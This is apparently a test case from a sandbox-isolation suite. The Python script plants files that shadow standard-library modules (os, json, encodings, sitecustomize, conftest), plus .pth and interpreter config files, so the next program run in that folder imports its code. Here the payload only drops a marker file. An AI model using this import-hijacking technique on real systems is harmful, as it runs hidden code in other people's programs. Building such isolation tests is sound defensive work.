"""Class 38. Leaves modules in the folder that the next program will work in.

A breach: they run in the next program, or in whoever collects.
"""

import os
from pathlib import Path

HIJACK = f"""
import os
print("hijacked")
try:
    open(os.path.join({os.environ["AIM_OUTSIDE"]!r}, "hijacked"), "w").close()
except OSError:
    pass
"""
NAMES = ("json", "os", "re", "sitecustomize", "usercustomize", "encodings", "math", "conftest")
for name in NAMES:
    Path(f"{name}.py").write_text(HIJACK)
Path("encodings").mkdir()
Path("encodings/__init__.py").write_text(HIJACK)
Path("x.pth").write_text("import json")
Path("pyvenv.cfg").write_text("home = .\n")
Path("python3._pth").write_text(".\nimport site\n")
